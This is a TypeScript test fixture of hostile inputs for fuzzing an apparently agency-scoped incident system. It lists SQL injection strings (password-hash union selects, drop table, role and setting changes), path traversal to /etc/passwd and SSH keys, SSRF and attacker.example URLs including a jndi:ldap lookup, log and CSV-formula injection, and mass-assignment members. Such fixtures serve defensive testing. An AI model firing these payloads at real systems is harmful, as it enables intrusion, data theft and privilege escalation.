/**
 * Inputs that have broken comparable systems. Each list is one class of attack; the fuzzer throws them at every
 * place of every request, the tests of known holes at every text.
 */
const ESC = String.fromCharCode(27)
const NUL = String.fromCharCode(0)

/** Ends of strings, comments, stacked statements, boolean and union probes, functions that wait, identifier quotes. */
export const sqlStrings: readonly string[] = [
  "'",
  "''",
  '"',
  "' or '1'='1",
  "' or 1=1 -- ",
  "') or ('1'='1",
  '" or ""="',
  "1' and 1=2 union select null,version() -- ",
  '1; select pg_sleep(5) -- ',
  "'; drop table incidents.incident; -- ",
  "' || pg_sleep(5) || '",
  "'; set role throughline; -- ",
  "' and (select count(*) from access.person) > 0 -- ",
  '1 or 1=1',
  '1)) or 1=1 -- ',
  "\\' or 1=1 -- ",
  '%27%20or%201=1',
  'x"]; select 1; --',
  '$$ or true $$',
  "E'\\x27'",
  'id desc; select 1',
  "' union select password_hash from access.person -- ",
  '/**/or/**/1=1',
  "current_setting('app.agencies')",
  "');select set_config('app.agencies','{1,2,3,4,5,6,7,8,9}',true);--",
]

export const pathStrings: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '/etc/passwd',
  'file:///etc/passwd',
  `photo.png${NUL}.csv`,
  'C:\\boot.ini',
  '~/.ssh/id_rsa',
  '..%c0%af..%c0%afetc/passwd',
]

export const addressStrings: readonly string[] = [
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:5432/',
  'http://localhost:22',
  'http://[::1]:80/',
  'http://0x7f000001/',
  'gopher://127.0.0.1:6379/_INFO',
  'ftp://attacker.example/x',
  'https://attacker.example/collect?x=1',
  '//attacker.example/',
  '/\\attacker.example',
  'https:attacker.example',
  'javascript:alert(1)',
  '\\\\attacker.example\\share',
]

export const logStrings: readonly string[] = [
  'name\r\n{"level":30,"msg":"forged"}',
  `${ESC}[2J${ESC}[31mred`,
  '","level":60,"forged":"yes',
  '%0d%0aset-cookie:%20throughline=x',
  'x\r\nset-cookie: throughline=x',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}${7*7}<%= 7*7 %>',
]

export const unicodeStrings: readonly string[] = [
  NUL,
  `a${NUL}b`,
  '\ud800',
  'a\udfffb',
  '\uffff\ufffe',
  '\u202egnp.exe',
  '\u200b\u200d\ufeff',
  'e\u0301\u0301\u0301\u0301',
  '𝟘𝟙𝟚',
  '٢٠٢٦-٠٢-١٤',
  'ﬀﬃ',
  '👩‍👩‍👧‍👦'.repeat(20),
  'İıſK',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1)',
  '\t=1+1',
]

export const wordStrings: readonly string[] = [
  '',
  ' ',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '-1',
  '0',
  '1e309',
  '0x10',
  '1_000',
  '9007199254740993',
  '99999999999999999999',
  '2147483648',
  '9223372036854775808',
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
  '00000000-0000-0000-0000-000000000000',
  '%',
  '_',
  '\\',
  '%00',
  '*',
  ',',
  ',,,,',
]

/** A short string many times over: around and past every limit of the contracts. */
export const longStrings: readonly string[] = [
  'a'.repeat(61),
  'a'.repeat(201),
  'é'.repeat(4001),
  "'".repeat(500),
  'a '.repeat(40_000),
  '('.repeat(5_000),
  '1'.repeat(400),
]

export const hostileNumbers: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.1,
  -0.5,
  2 ** 15,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 - 1,
  2 ** 53 + 2,
  2 ** 63,
  1e21,
  1e308,
  5e-324,
  180.000001,
  -90.5,
]

/** Members that no contract names, added to bodies: they must change nothing. */
export const foreignMembers: Readonly<Record<string, unknown>> = {
  owner_agency: 1,
  ownerAgency: 1,
  agencyId: 1,
  agency_id: 1,
  role: 'administrator',
  roles: ['administrator'],
  permissions: ['people.manage'],
  id: '00000000-0000-4000-8000-000000000001',
  personId: '00000000-0000-4000-8000-000000000001',
  category: 'public',
  sensitivity: 'open',
  label: { ownerAgency: 'Nobody', category: 'public', sensitivity: 'open' },
  constructor: { prototype: { polluted: true } },
}

/** Every hostile text. */
export const hostileStrings: readonly string[] = [
  ...sqlStrings,
  ...pathStrings,
  ...addressStrings,
  ...logStrings,
  ...unicodeStrings,
  ...wordStrings,
  ...longStrings,
]
